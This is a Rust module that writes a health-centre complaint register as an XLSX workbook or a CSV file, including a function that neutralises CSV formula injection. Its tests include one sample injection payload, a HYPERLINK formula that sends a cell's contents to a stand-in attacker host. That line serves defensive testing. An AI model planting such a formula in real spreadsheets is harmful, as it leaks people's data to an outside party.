//! The register as a file: an .xlsx workbook (rust_xlsxwriter) or CSV for Excel. Bytes out,
//! no I/O, so the CLI writes them to a file and the web sends them as a download.

use anyhow::{Context, Result};
use chrono::{DateTime, Datelike, Timelike, Utc};
use rust_xlsxwriter::{ExcelDateTime, Format, FormatAlign, FormatBorder, Note, Workbook};

use super::register::{wib, Period, RegisterRow, HEADERS, ON_TIME_NOTE};

/// Which file `register` writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SheetFormat {
    Xlsx,
    Csv,
}

impl std::str::FromStr for SheetFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s.trim().to_ascii_lowercase().as_str() {
            "xlsx" => Ok(SheetFormat::Xlsx),
            "csv" => Ok(SheetFormat::Csv),
            _ => Err(format!(
                "{s:?} is not a register format; expected xlsx or csv"
            )),
        }
    }
}

impl SheetFormat {
    pub fn extension(self) -> &'static str {
        match self {
            SheetFormat::Xlsx => "xlsx",
            SheetFormat::Csv => "csv",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            SheetFormat::Xlsx => {
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
            }
            SheetFormat::Csv => "text/csv; charset=utf-8",
        }
    }

    pub fn write(self, rows: &[RegisterRow], period: &Period, puskesmas: &str) -> Result<Vec<u8>> {
        match self {
            SheetFormat::Xlsx => xlsx(rows, period, puskesmas),
            SheetFormat::Csv => Ok(csv(rows)),
        }
    }
}

/// `register-2026-11.xlsx`.
pub fn file_name(period: &Period, format: SheetFormat) -> String {
    format!("register-{}.{}", period.slug(), format.extension())
}

/// The column `Tepat waktu (…)`.
const ON_TIME_COLUMN: u16 = 15;
/// Columns holding dates (real date cells in the workbook).
const DATE_COLUMNS: [usize; 4] = [1, 10, 12, 14];
/// Columns of free text, wrapped at a fixed width instead of growing without end.
const WRAPPED: [usize; 4] = [4, 9, 11, 13];
const WRAP_WIDTH: f64 = 40.0;
const MAX_WIDTH: usize = 40;

/// A4 in the paper-size list of the XLSX format (ECMA-376 part 1, 18.3.1.63).
const PAPER_A4: u8 = 9;

pub fn xlsx(rows: &[RegisterRow], period: &Period, puskesmas: &str) -> Result<Vec<u8>> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Register")?;
    let header = Format::new()
        .set_bold()
        .set_text_wrap()
        .set_align(FormatAlign::Top)
        .set_border(FormatBorder::Thin);
    let date = Format::new()
        .set_num_format("dd/mm/yyyy hh:mm")
        .set_align(FormatAlign::Top);
    let plain = Format::new().set_align(FormatAlign::Top);
    let wrapped = Format::new().set_text_wrap().set_align(FormatAlign::Top);

    let mut widths: Vec<usize> = HEADERS.iter().map(|h| h.chars().count().min(18)).collect();
    for (c, h) in HEADERS.iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, *h, &header)?;
    }
    // How "tepat waktu" is judged: a note on its column, and under every printed page.
    sheet.insert_note(
        0,
        ON_TIME_COLUMN,
        &Note::new(ON_TIME_NOTE).set_author("pengaduan"),
    )?;
    for (i, row) in rows.iter().enumerate() {
        let r = (i + 1) as u32;
        let cells = row.cells();
        let times = [Some(row.received), row.ack_sent, row.reviewed, row.answered];
        for (c, cell) in cells.iter().enumerate() {
            if let Some(k) = DATE_COLUMNS.iter().position(|d| *d == c) {
                if let Some(t) = times[k] {
                    sheet.write_datetime_with_format(r, c as u16, excel_time(t)?, &date)?;
                }
                continue;
            }
            if cell.is_empty() {
                continue;
            }
            let format = if WRAPPED.contains(&c) {
                &wrapped
            } else {
                &plain
            };
            sheet.write_string_with_format(r, c as u16, cell, format)?;
            widths[c] = widths[c].max(cell.chars().count());
        }
    }
    for (c, w) in widths.iter().enumerate() {
        let width = if DATE_COLUMNS.contains(&c) {
            17.0
        } else if WRAPPED.contains(&c) {
            WRAP_WIDTH
        } else {
            (*w).clamp(6, MAX_WIDTH) as f64 + 2.0
        };
        sheet.set_column_width(c as u16, width)?;
    }
    let last_row = rows.len() as u32;
    let last_col = (HEADERS.len() - 1) as u16;
    sheet.set_freeze_panes(1, 0)?;
    sheet.autofilter(0, 0, last_row, last_col)?;
    sheet
        .set_landscape()
        .set_paper_size(PAPER_A4)
        .set_print_fit_to_pages(1, 0)
        .set_repeat_rows(0, 0)?
        // `&P`/`&N`: page number and count (ECMA-376 part 1, 18.3.1.46).
        .set_header(format!(
            "&L{} — Buku register pengaduan {}&RHalaman &P dari &N",
            escape_header(puskesmas),
            escape_header(&period.label())
        ))
        .set_footer(format!("&L&8{}", escape_header(ON_TIME_NOTE)));
    book.save_to_buffer()
        .context("cannot write the register workbook")
}

/// `&` starts a code in a page header; a literal one is written twice.
fn escape_header(s: &str) -> String {
    s.replace('&', "&&")
}

fn excel_time(t: DateTime<Utc>) -> Result<ExcelDateTime> {
    let l = wib(t);
    let year = u16::try_from(l.year()).context("a year outside the spreadsheet's range")?;
    Ok(
        ExcelDateTime::from_ymd(year, l.month() as u8, l.day() as u8)?.and_hms(
            l.hour() as u16,
            l.minute() as u8,
            l.second(),
        )?,
    )
}

/// UTF-8 with a byte-order mark (so Excel does not read it as a legacy code page),
/// comma-separated, every field quoted as RFC 4180 section 2 allows, CRLF line ends.
/// Every cell is [`inert`]: a complainant's name or subject cannot become a formula.
pub fn csv(rows: &[RegisterRow]) -> Vec<u8> {
    let mut out = String::from("\u{feff}");
    let mut line = |cells: &mut dyn Iterator<Item = &str>| {
        let quoted: Vec<String> = cells
            .map(|c| format!("\"{}\"", inert(c).replace('"', "\"\"")))
            .collect();
        out.push_str(&quoted.join(","));
        out.push_str("\r\n");
    };
    line(&mut HEADERS.iter().copied());
    for row in rows {
        let cells = row.cells();
        line(&mut cells.iter().map(String::as_str));
    }
    out.into_bytes()
}

/// A CSV cell a spreadsheet reads as text: one that begins with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading `'`, as OWASP's CSV-injection guidance says, so
/// `=HYPERLINK(…)` in a complainant's name stays words and `+62 812…` stays a readable
/// phone number instead of a sum or a number in scientific notation. (The XLSX writer
/// stores every text as a string cell and needs nothing of this.)
pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_compute_are_made_text() {
        for (cell, shown) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
            ),
            ("+6281234567890", "'+6281234567890"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Siti", "Siti"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(inert(cell), shown, "{cell:?}");
        }
    }
    use crate::reports::register::{build, tests as reg};

    #[test]
    fn csv_has_a_bom_quotes_and_crlf() {
        let mut f = reg::facts(1);
        f.name = Some("Zoë \"Ibu\" Renée 😊".into());
        let rows = build(
            &[f],
            &Period::parse_month("2026-11").unwrap(),
            &reg::calendar(),
            f_now(),
        );
        let text = String::from_utf8(csv(&rows)).unwrap();
        assert!(text.starts_with("\u{feff}\"No. tiket\",\"Tanggal diterima\""));
        assert!(text.contains("\"Zoë \"\"Ibu\"\" Renée 😊\""), "{text}");
        assert_eq!(text.matches("\r\n").count(), 2);
    }

    #[test]
    fn xlsx_is_a_zip() {
        let rows = build(
            &[reg::facts(1)],
            &Period::parse_month("2026-11").unwrap(),
            &reg::calendar(),
            f_now(),
        );
        let bytes = xlsx(&rows, &Period::parse_month("2026-11").unwrap(), "P & K").unwrap();
        assert_eq!(&bytes[..2], b"PK");
        assert!(
            crate::reports::register::HEADERS[ON_TIME_COLUMN as usize].starts_with("Tepat waktu")
        );
    }

    fn f_now() -> DateTime<Utc> {
        reg::facts(1).received_at + chrono::Duration::days(40)
    }

    #[test]
    fn formats_parse() {
        assert_eq!("XLSX".parse::<SheetFormat>(), Ok(SheetFormat::Xlsx));
        assert!("pdf"
            .parse::<SheetFormat>()
            .unwrap_err()
            .contains("xlsx or csv"));
    }
}
